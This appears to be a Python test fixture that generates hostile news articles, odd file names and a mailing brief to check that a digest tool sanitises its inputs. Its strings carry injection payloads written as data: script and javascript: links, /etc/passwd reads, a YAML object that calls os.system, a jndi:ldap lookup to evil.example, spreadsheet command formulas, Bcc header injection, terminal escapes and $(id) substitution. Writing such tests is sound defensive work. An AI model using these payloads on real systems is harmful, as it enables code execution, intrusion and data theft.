"""Articles and a brief that try to be obeyed: by the page, the mail, a spreadsheet, a calendar, a terminal."""

from __future__ import annotations

import json
from pathlib import Path

MARKUP = (
    '<img src="/etc/passwd"/><onDraw name="evil" label="x"/></para><font color="red"><a href="file:///etc/passwd">x</a>'
)
LINK = '<a href="javascript:alert(1)">press</a> [press](javascript:alert(1)) ![x](file:///etc/passwd)'
YAML = "!!python/object/apply:os.system [id] &a *a ${jndi:ldap://evil.example/a} {{7*7}} %(x)s"
TERMINAL = "\x1b[31mred\x1b]0;owned\x07\x9b2J\u202egnp.exe\u2066"
LINES = "one\r\nBcc: victim@evil.example\r\nEND:VEVENT\r\nBEGIN:VALARM\nSubject: owned\u2028X"
FORMULAS = ("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", '=HYPERLINK("http://evil.example/?x","y")')

EVERYTHING = f"{MARKUP} {LINK} {YAML} {TERMINAL} {LINES}"

FILE_NAMES = (
    "=cmd|' !A1.html",
    "one\nBcc: victim@evil.example\n.txt",
    "red\x1b[31m\x1b]0;owned\x07.txt",
    "\u202etxt.exe.txt",
    "<img src=x onerror=alert(1)>.txt",
    "[x](javascript:alert(1)).txt",
    "a#1.txt",
    "--version.txt",
)


def page(n: int, formula: str) -> str:
    """Return a web page that puts hostile words wherever a page says something of itself."""
    facts = {
        "@type": "NewsArticle",
        "headline": f"{formula} {EVERYTHING}"[:400],
        "datePublished": f"2025-05-{14 + n}T10:00:00Z",
        "publisher": {"name": f"{formula} {EVERYTHING}"[:400]},
        "author": {"name": f"{formula} {EVERYTHING}"[:400]},
        "url": "javascript:alert(1)",
        "inLanguage": "en\r\nBcc: x",
    }
    script = json.dumps(facts).replace("</", "<\\/")
    told = "".join(f"<p>{_escaped(line)}</p>" for line in body(n, formula))
    return (
        '<!DOCTYPE html SYSTEM "http://evil.example/x.dtd"><html><head>'
        '<link rel="stylesheet" href="http://evil.example/x.css"><link rel="canonical" href="javascript:alert(1)">'
        f'<script type="application/ld+json">{script}</script></head>'
        f'<body><article><img src="http://evil.example/x.png" onerror="alert(1)">{told}</article></body></html>'
    )


def body(n: int, formula: str) -> tuple[str, ...]:
    """Return sentences with dates, each with something hostile in it."""
    shown = " ".join(EVERYTHING.split())
    return (
        f"{formula}, the harbour pilots of Oban walked out on Monday, 12 May 2025, their union said. {MARKUP}",
        f"Port director {formula} Lind met the union on {13 + n} May 2025 and promised new talks {LINK} {YAML}.",
        f'"{formula} {shown}," the mayor of Oban {MARKUP} said on Tuesday.',
        f"The council will vote on 30 May 2025 on {TERMINAL} and {formula}.",
    )


def write(folder: Path) -> tuple[Path, int]:
    """Write the articles and their brief; return the brief's path and the number of articles."""
    articles = folder / "articles"
    articles.mkdir(parents=True)
    for n, name in enumerate(FILE_NAMES):
        formula = FORMULAS[n % len(FORMULAS)]
        if n % 2:
            front = (
                f"---\ntitle: {json.dumps(f'{formula} {EVERYTHING}'[:300])}\npublisher: {json.dumps(formula)}\n---\n"
            )
            text = front + "\n\n".join(body(n, formula)) + "\n"
        else:
            text = page(n, formula)
        (articles / name).write_text(text, encoding="utf-8", newline="")
    (articles / "locked\x1b[31m\nBcc: x.pdf").write_bytes(b"%PDF-1.7\n1 0 obj << /Encrypt 2 0 R >>")
    line = " ".join(f"{MARKUP} {LINK} {YAML}".split())[:250]
    brief = {
        "name": "hostile",
        "title": f"=1+1 {line}",
        "sources": ["articles"],
        "topic": ["pilots", line],
        "names": {f"Lind {MARKUP}": ["Lind"]},
        "corrections": [{"match": "director", "rename": f"=1+1 {line}"[:200]}],
        "sources_inside": "full",
        "distribution": {
            "from": '"=cmd {x} $(id)" <desk@example.org>',
            "to": ['"+1 {{x}} %(x)s" <one@example.org>'],
            "subject": f"=1+1 {MARKUP} {{title}}"[:200],
            "smtp": {"host": "mail.example.org", "port": 587, "security": "none"},
        },
    }
    (folder / "brief.yaml").write_text(json.dumps(brief), encoding="utf-8")
    return folder / "brief.yaml", len(FILE_NAMES)


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")
